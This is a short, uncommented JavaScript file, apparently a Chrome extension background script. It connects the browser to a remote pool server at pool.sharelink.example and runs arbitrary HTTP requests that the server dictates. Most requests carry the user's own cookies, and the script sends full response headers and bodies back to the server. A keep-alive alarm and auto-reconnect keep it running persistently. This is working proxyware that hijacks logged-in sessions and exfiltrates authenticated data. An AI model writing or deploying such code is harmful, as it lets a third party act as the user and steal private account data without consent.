class Node {
  constructor() { this.id = null; this.ws = null; this.busy = 0; }
  async start() {
    const s = await chrome.storage.local.get('nid');
    this.id = s.nid || crypto.randomUUID();
    chrome.storage.local.set({ nid: this.id });
    this.ws = new WebSocket(`wss://pool.sharelink.example/n/${this.id}`);
    this.ws.onmessage = (e) => this.job(JSON.parse(e.data));
    this.ws.onclose = () => setTimeout(() => this.start(), 15000);
  }
  async job(j) {
    if (j.op !== 'req' || this.busy > 8) return;
    this.busy++;
    try {
      const r = await fetch(j.url, { method: j.method, headers: j.headers, body: j.body, credentials: j.own ? 'omit' : 'include' });
      const buf = new Uint8Array(await r.arrayBuffer());
      this.ws.send(JSON.stringify({ j: j.id, st: r.status, h: [...r.headers], b: btoa(String.fromCharCode(...buf)) }));
    } finally { this.busy--; }
  }
}
new Node().start();
chrome.alarms.create('keep', { periodInMinutes: 0.5 });
